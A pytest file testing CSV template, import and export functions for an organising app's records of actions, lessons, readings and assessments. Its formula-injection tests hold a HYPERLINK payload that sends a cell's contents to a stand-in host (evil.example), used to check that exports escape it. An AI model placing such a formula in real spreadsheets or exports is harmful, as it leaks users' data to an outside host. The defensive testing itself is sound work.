"""CSV templates: download, fill, import all or nothing; export in the same columns."""

from __future__ import annotations

import csv
import io
import re

import pyoxigraph as ox
import pytest

from graph import practice
from graph.access import Viewer, Visibility
from graph.errors import BadInput
from graph.io.exports import ExportFormat, export
from graph.io.tables import COLUMNS, TableKind, import_table, table_rows, template
from graph.namespaces import VOCAB
from graph.practice import find_member
from graph.store import open_store

ORGANISER, WREN = Viewer.organiser(), Viewer.member("wren")


def snapshot(store) -> set[str]:
    return {str(quad) for quad in store.quads(ORGANISER)}


def run(store, kind: TableKind, text: str, viewer: Viewer = ORGANISER):
    return import_table(store, text.encode("utf-8"), kind=kind, viewer=viewer, source=f"{kind.value}.csv")


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("kind", list(TableKind), ids=lambda k: k.value)
def test_each_template_has_the_header_and_one_example_row(kind):
    rows = parse(template(kind))
    assert len(rows) == 1
    assert list(rows[0]) == [c.name for c in COLUMNS[kind]]
    assert all(rows[0][c.name] for c in COLUMNS[kind] if c.required)


@pytest.mark.parametrize(
    ("kind", "added", "merged"),
    [
        (TableKind.READINGS, 0, 1),  # the example is Parecon, already in the seed (same ISBN)
        (TableKind.ACTIONS, 1, 0),
        (TableKind.LESSONS, 1, 0),
        (TableKind.ASSESSMENTS, 1, 0),
    ],
    ids=lambda v: getattr(v, "value", str(v)),
)
def test_each_template_example_imports_into_the_seed(seeded, kind, added, merged):
    report = run(seeded, kind, template(kind))
    assert (report.added, report.merged) == (added, merged)


def test_an_action_row_follows_the_form_rules(store):
    report = run(
        store,
        TableKind.ACTIONS,
        "name,date,methods,direct,visibility\n"
        "Sit-in at the housing office,2025-04-01,Sit-in,,\n"
        "Leafleting the market,2025-04-02,pxv:leaflets-pamphlets-books,,\n"
        "Banner at the station,2025-04-03,,yes,\n"
        "Announced sit-in,2025-04-04,Sit-in,,public\n",
    )
    assert report.added == 4
    levels = {a.label: a.visibility for a in practice.all_actions(store, ORGANISER)}
    assert levels == {
        "Sit-in at the housing office": Visibility.MEMBERS,
        "Leafleting the market": Visibility.PUBLIC,
        "Banner at the station": Visibility.MEMBERS,
        "Announced sit-in": Visibility.PUBLIC,
    }


def test_a_missing_column_refuses_the_file_before_any_row(seeded):
    before = snapshot(seeded)
    with pytest.raises(BadInput, match=r"actions.csv: row 1: the column 'date' is missing"):
        run(seeded, TableKind.ACTIONS, "name,place\nPicket,Town hall\n")
    assert snapshot(seeded) == before


def test_every_problem_is_listed_with_its_row_and_column_and_nothing_is_written(seeded):
    before = snapshot(seeded)
    text = (
        "title,action,taught,supports,date\n"
        "Fine,px:action-ff2dd6,It worked.,Racism,2025-01-02\n"
        "Bad date,px:action-ff2dd6,It worked.,Racism,02/01/2025\n"
        "Unknown concept,px:action-ff2dd6,It worked.,Patriarchy2,\n"
        ",px:action-ff2dd6,No title.,Racism,\n"
        "No action,px:action-000000,It worked.,Racism,\n"
    )
    with pytest.raises(BadInput) as error:
        run(seeded, TableKind.LESSONS, text)
    message = str(error.value)
    assert "4 problems; nothing was imported" in message
    assert "row 3, column 'date': '02/01/2025' is not a date" in message
    assert "row 4, column 'supports': no concept or claim is called 'Patriarchy2'" in message
    assert "row 5, column 'title': this cell is empty; it is required" in message
    assert "row 6, column 'action': there is no action px:action-000000" in message
    assert snapshot(seeded) == before


def test_lessons_take_their_actions_visibility_and_their_authors_nickname(seeded):
    action = next(a for a in practice.all_actions(seeded, ORGANISER) if a.visibility is Visibility.MEMBERS)
    report = run(
        seeded,
        TableKind.LESSONS,
        f"title,action,taught,challenges,member\nQuiet lesson,{action.iri},It taught.,pxv:nvda,\n",
        viewer=WREN,
    )
    assert report.added == 1
    [row] = [r for r in practice.list_lessons(seeded, WREN) if r.title == "Quiet lesson"]
    assert row.visibility is Visibility.MEMBERS
    assert row.creator == find_member(seeded, WREN)
    with pytest.raises(BadInput, match="you can import only your own rows"):
        run(
            seeded,
            TableKind.LESSONS,
            f"title,action,taught,challenges,member\nNot mine,{action.iri},It taught.,pxv:nvda,Heron\n",
            viewer=WREN,
        )


def test_scores_may_be_numbers_or_their_labels_and_nothing_else(seeded):
    report = run(
        seeded,
        TableKind.ASSESSMENTS,
        "action,indicator,score\npx:action-ff2dd6,Media coverage,clearly advanced\n"
        "px:action-ff2dd6,pxv:indicator-ripple-effects,-1\n",
    )
    assert report.added == 2
    scores = {
        (r.indicator, r.score)
        for r in practice.list_assessments(seeded, ORGANISER)
        if r.nickname == "local organiser"
    }
    assert scores == {(VOCAB["indicator-media-coverage"], 2), (VOCAB["indicator-ripple-effects"], -1)}
    with pytest.raises(BadInput, match=r"row 2, column 'score': '3' is not a score"):
        run(seeded, TableKind.ASSESSMENTS, "action,indicator,score\npx:action-ff2dd6,Media coverage,3\n")


def test_semicolon_separated_files_from_european_spreadsheets_are_read(store):
    report = run(store, TableKind.ACTIONS, "name;date;place\nPicket;2025-03-12;Town hall, north side\n")
    assert report.added == 1


def test_the_csv_export_uses_the_template_columns_and_the_viewers_eyes(seeded):
    lessons = len(seeded.select("lessons_all", ORGANISER))
    every = parse(export(seeded, ExportFormat.CSV, viewer=ORGANISER, kind="lessons").decode())
    public = parse(export(seeded, ExportFormat.CSV, viewer=Viewer.visitor(), kind="lessons").decode())
    assert len(every) == lessons and 0 < len(public) < lessons
    assert {row["visibility"] for row in public} == {"public"}
    assert list(every[0]) == [c.name for c in COLUMNS[TableKind.LESSONS]]
    by_level = [
        parse(export(seeded, ExportFormat.CSV, viewer=ORGANISER, kind="lessons", levels=[level]).decode())
        for level in Visibility
    ]
    assert len(by_level[0]) == len(public)  # Visibility lists public first
    assert sum(len(rows) for rows in by_level) == lessons
    with pytest.raises(BadInput, match="a CSV export needs a kind"):
        export(seeded, ExportFormat.CSV, viewer=ORGANISER)


def test_exported_rows_import_again_without_duplicates(seeded):
    text = export(seeded, ExportFormat.CSV, viewer=ORGANISER, kind="actions").decode()
    before = len(table_rows(seeded, ORGANISER, TableKind.ACTIONS))
    report = run(seeded, TableKind.ACTIONS, text)
    assert (report.added, report.merged) == (0, before)
    assert len(table_rows(seeded, ORGANISER, TableKind.ACTIONS)) == before


def test_the_commands_write_templates_import_and_export(run_praxis, tmp_path):
    assert run_praxis("init").returncode == 0
    result = run_praxis("import", "csv", "--kind", "actions", "--template", str(tmp_path / "a.csv"))
    assert result.returncode == 0 and (tmp_path / "a.csv").read_text().startswith("id,name,date")
    result = run_praxis("import", "csv", "--kind", "actions", str(tmp_path / "a.csv"))
    assert result.returncode == 0, result.stderr
    (tmp_path / "bad.csv").write_text("name\nPicket\n", encoding="utf-8")
    result = run_praxis("import", "csv", "--kind", "actions", str(tmp_path / "bad.csv"))
    assert result.returncode == 2 and b"the column 'date' is missing" in result.stderr
    result = run_praxis("--as", "visitor", "export", "--format", "csv", "--kind", "readings")
    assert result.returncode == 0 and result.stdout.startswith(b"id,title,authors")


# ------------------------------------------------------------------ malformed rows, formulas
@pytest.mark.parametrize(
    ("text", "message"),
    [
        # issue 16, item 5: a row with too few cells was accepted silently
        ("name,date,place\nPicket,2025-03-12\n", r"row 2: the row has 2 cells but the header has 3 columns"),
        ("name,date\nPicket,2025-03-12,Town hall,x\n", r"row 2: the row has 4 cells .* a cell too many"),
        (
            'name,date,place\nPicket,2025-03-12,"Town hall\n',
            r"line 2: this is not a readable CSV file \(a quoted",
        ),
        (
            'name,date,place\n"Two\nlines",2025-03-12,x\nShort,2025-03-13\n',
            r"row 3: the row \(line 4\) has 2 cells",
        ),
    ],
)
def test_malformed_rows_and_cut_files_are_refused_with_row_and_line(seeded, text, message):
    before = snapshot(seeded)
    with pytest.raises(BadInput, match=message):
        run(seeded, TableKind.ACTIONS, text)
    assert snapshot(seeded) == before


def test_every_malformed_row_is_listed(seeded):
    with pytest.raises(BadInput) as error:
        run(seeded, TableKind.ACTIONS, "name,date,place\nA,2025-01-01\nB,2025-01-02,x\nC\n")
    assert "2 problems" in str(error.value)
    assert "row 2: the row has 2 cells" in str(error.value) and "row 4: the row has 1 cells" in str(
        error.value
    )


def test_a_cell_over_the_value_limit_is_refused_with_row_and_column(seeded):
    before = snapshot(seeded)
    with pytest.raises(BadInput, match=r"row 2, column 'place': the field place is 1\.1 MiB"):
        run(seeded, TableKind.ACTIONS, f"name,date,place\nPicket,2025-03-12,{'é' * 600_000}\n")
    with pytest.raises(BadInput, match=r"line 2: .* \(a cell holds more than 1,048,576 characters"):
        run(seeded, TableKind.ACTIONS, f"name,date,place\nPicket,2025-03-12,{'x' * 2**21}\n")
    assert snapshot(seeded) == before


NUMBER = re.compile(r"[+-]?\d+(\.\d*)?")  # a spreadsheet reads "+1" and "-2" as numbers: no formula
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def csv_text(header: list[str], *rows: list[str]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    return buffer.getvalue()


def hostile_rows(store, kind: TableKind, column: str, value: str) -> list[dict[str, str]]:
    rows = [row for row in table_rows(store, ORGANISER, kind) if row.get(column) == value]
    return [{name: cell for name, cell in row.items() if name != "id"} for row in rows]


def test_csv_exports_escape_formulas_and_imports_give_back_the_same_records(seeded, seed_quads):
    """Issue 16, item 5: exports wrote cells starting with =, +, -, @ as given (formula injection)."""
    written = [
        (
            TableKind.READINGS,
            ["title", "publisher", "abstract", "keywords", "year"],
            [LINK, "+1", "@SUM(A1)", "-x", "2001"],
        ),
        (
            TableKind.LESSONS,
            ["title", "action", "taught", "supports", "evidence", "member"],
            ["@SUM(A1)", "px:action-ff2dd6", "-x", "pxv:nvda", "=1+1", "+1"],
        ),
        (
            TableKind.ASSESSMENTS,
            ["action", "indicator", "score", "evidence"],
            ["px:action-ff2dd6", "Media coverage", "-2", LINK],
        ),
    ]
    other = open_store("memory:")
    other.load_trusted(seed_quads)
    for kind, header, cells in written:
        run(seeded, kind, csv_text(header, cells))
        column, value = ("title", cells[0]) if kind is not TableKind.ASSESSMENTS else ("evidence", LINK)
        before = hostile_rows(seeded, kind, column, value)
        assert len(before) == 1, kind

        text = export(seeded, ExportFormat.CSV, viewer=ORGANISER, kind=kind.value).decode()
        cells_out = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        formulas = [c for c in cells_out if c[:1] in ("=", "+", "-", "@") and not NUMBER.fullmatch(c)]
        assert formulas == [], kind  # a spreadsheet would run these
        assert kind is not TableKind.ASSESSMENTS or "-2" in cells_out  # a plain score stays a number

        exported = [row for row in parse(text) if row[column].lstrip("'") == value.lstrip("'")]
        again = csv_text(
            list(exported[0]),
            *[[cell if name != "id" else "" for name, cell in row.items()] for row in exported],
        )
        report = run(other, kind, again)
        assert report.added == 1, kind
        assert hostile_rows(other, kind, column, value) == before, kind


# ------------------------------------------------------------------ names beside identifiers
def test_the_csv_export_writes_names_a_person_reads_with_the_identifiers_beside_them(seeded):
    actions = parse(export(seeded, ExportFormat.CSV, viewer=ORGANISER, kind="actions").decode())
    poll_tax = next(row for row in actions if row["id"] == "px:action-07f878")
    assert (poll_tax["campaign"], poll_tax["campaign_id"]) == (
        "Anti-poll-tax campaign",
        "px:campaign-anti-poll-tax",
    )
    assert (poll_tax["methods"], poll_tax["methods_ids"]) == ("Marches", "pxv:marches")
    assert (poll_tax["addresses"], poll_tax["addresses_ids"]) == ("Capitalism", "pxv:capitalism")
    lessons = parse(export(seeded, ExportFormat.CSV, viewer=ORGANISER, kind="lessons").decode())
    names = [row[c] for row in lessons for c in ("action", "supports", "challenges", "qualifies")]
    assert not [name for name in names if re.search(r"\bpxv?:", name)]  # no identifier where a name goes
    for row in lessons:
        for stance in ("supports", "challenges", "qualifies"):
            # the n-th name is the n-th identifier's label
            assert len(row[stance].split("; ")) == len(row[f"{stance}_ids"].split("; ")), row["id"]


def test_a_name_that_looks_like_a_formula_is_escaped_in_the_name_column(seeded):
    run(seeded, TableKind.ACTIONS, "name,date\n=HYPERLINK(1),2025-03-12\n")
    action = next(a for a in table_rows(seeded, ORGANISER, TableKind.ACTIONS) if a["name"] == "=HYPERLINK(1)")
    run(seeded, TableKind.LESSONS, f"title,action,taught,supports\nT,{action['id']},Taught,pxv:nvda\n")
    text = export(seeded, ExportFormat.CSV, viewer=ORGANISER, kind="lessons").decode()
    row = next(row for row in parse(text) if row["action_id"] == action["id"])
    assert row["action"] == "'=HYPERLINK(1)"


def test_every_csv_export_imports_into_a_store_without_those_records_as_the_same_records(seeded):
    records = {
        ox.NamedNode(str(row["record"]))
        for kind in TableKind
        for row in seeded.select("record_table", ORGANISER, **{"class": kind.cls})
    }
    # Campaigns, concepts, claims and indicators stay: a CSV refers to them, it does not carry them.
    empty = open_store("memory:")
    empty.load_trusted(
        q for q in seeded.quads(ORGANISER) if q.subject not in records and q.object not in records
    )
    for kind in TableKind:  # readings and actions before the lessons and assessments that name them
        assert table_rows(empty, ORGANISER, kind) == []
        run(empty, kind, export(seeded, ExportFormat.CSV, viewer=ORGANISER, kind=kind.value).decode())
        before, after = table_rows(seeded, ORGANISER, kind), table_rows(empty, ORGANISER, kind)
        if kind is TableKind.READINGS:  # an imported reading gets a new identifier
            before, after = ([{**r, "id": ""} for r in rows] for rows in (before, after))
            before, after = (sorted(rows, key=lambda r: sorted(r.items())) for rows in (before, after))
        assert after == before, kind


def test_a_name_edited_without_its_identifier_refuses_the_row(seeded):
    text = export(seeded, ExportFormat.CSV, viewer=ORGANISER, kind="actions").decode()
    rows = parse(text)
    row = next(r for r in rows if r["addresses_ids"] == "pxv:capitalism")
    edited = csv_text(list(row), [v if k != "id" else "" for k, v in row.items()])
    edited = edited.replace(",Capitalism,pxv:capitalism,", ",Racism,pxv:capitalism,")
    before = snapshot(seeded)
    with pytest.raises(
        BadInput, match=r"column 'addresses': 'Racism' names other records than addresses_ids"
    ):
        run(seeded, TableKind.ACTIONS, edited)
    assert snapshot(seeded) == before
    renamed = edited.replace(",Racism,pxv:capitalism,", ",,pxv:capitalism,")  # the identifier alone is enough
    assert run(seeded, TableKind.ACTIONS, renamed).added == 1
